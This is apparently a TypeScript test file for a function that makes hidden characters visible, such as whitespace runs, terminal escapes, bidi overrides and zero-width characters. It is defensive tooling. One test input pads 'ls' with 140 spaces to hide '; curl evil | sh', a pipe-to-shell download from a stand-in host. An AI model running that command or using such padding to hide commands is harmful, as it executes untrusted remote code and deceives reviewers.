import { array, assert, constantFrom, integer, oneof, property } from 'fast-check'
import { expect, test } from 'vitest'
import { visible } from '../../../src/lib/text/visible.ts'

test.each([
  ['make cake', 'make cake'],
  ['    indented  a  little', '    indented  a  little'],
  [`ls${' '.repeat(140)}; curl evil | sh`, 'ls⟨␠×140⟩; curl evil | sh'],
  ['a\nb', 'a↵\nb'],
  ['a\n\n\nb', 'a⟨↵×3⟩\nb'],
  ['a\tb\t\t', 'a⇥b⟨⇥×2⟩'],
  ['a ', 'a␠'],
  ['a  \nb', 'a⟨␠×2⟩↵\nb'],
  ['a\r\nb', 'a⟨U+000D⟩↵\nb'],
  ['\u001b[31mred', '⟨U+001B⟩[31mred'],
  ['x\u202ey\u2066z', 'x⟨U+202E⟩y⟨U+2066⟩z'],
  ['zero\u200bwidth\ufeff', 'zero⟨U+200B⟩width⟨U+FEFF⟩'],
  ['no\u00a0break\u3000', 'no⟨U+00A0⟩break⟨U+3000⟩'],
  ['\u2800\u3164\u{e0041}', '⟨U+2800⟩⟨U+3164⟩⟨U+E0041⟩'],
  ['\ud800', '⟨U+D800⟩'],
  ['naïve e\u0301 日本語 😀', 'naïve e\u0301 日本語 😀'],
  ['e\u0301\u0301\u0301', 'e\u0301\u0301⟨U+0301⟩'],
  ['␠×140 ⟨U+0041⟩ ↵', '⟨U+2420⟩×140 ⟨U+27E8⟩U+0041⟨U+27E9⟩ ⟨U+21B5⟩'],
])('%j is shown as %j', (text, shown) => {
  expect(visible(text)).toBe(shown)
})

test('whatever it is, it can be read back sign by sign', () => {
  const sign = oneof(
    constantFrom(' ', ' '.repeat(9), '\t', '\n', '\u200b', '␠', '⇥', '↵', '⟨', '⟩', '×', '3', 'U+', 'a'),
    integer({ min: 0, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
  )
  assert(
    property(array(sign), (signs) => {
      expect(readBack(visible(signs.join('')))).toBe(signs.join(''))
    }),
  )
})

function readBack(shown: string): string {
  const plain: Record<string, string> = { '␠': ' ', '⇥': '\t', '↵': '\n' }
  return shown
    .replaceAll('↵\n', '↵')
    .replace(/(⟨↵×\d+⟩)\n/g, '$1')
    .replace(/⟨([␠⇥↵])×(\d+)⟩|⟨U\+([0-9A-F]+)⟩|[␠⇥↵]/g, (found, sign: string, count: string, hex: string) => {
      if (hex) return String.fromCodePoint(Number.parseInt(hex, 16))
      return sign ? (plain[sign] ?? '').repeat(Number(count)) : (plain[found] ?? '')
    })
}
